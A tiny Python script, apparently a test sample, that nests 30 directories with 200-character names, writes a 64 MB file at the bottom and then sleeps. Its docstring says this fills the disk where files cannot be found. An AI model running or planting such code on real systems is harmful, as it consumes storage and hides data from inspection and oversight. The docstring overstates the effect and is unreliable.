"""Fills the disk below folders that are nested so deep that no path leads there, where files are not found."""

import os
import time

TELLS = "folders that cannot be looked into"
DEADLINE = 30


def total(value):
    for _ in range(30):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    with open("kept", "wb") as file:
        for _ in range(64):
            file.write(b"x" * 2**20)
    time.sleep(1000)
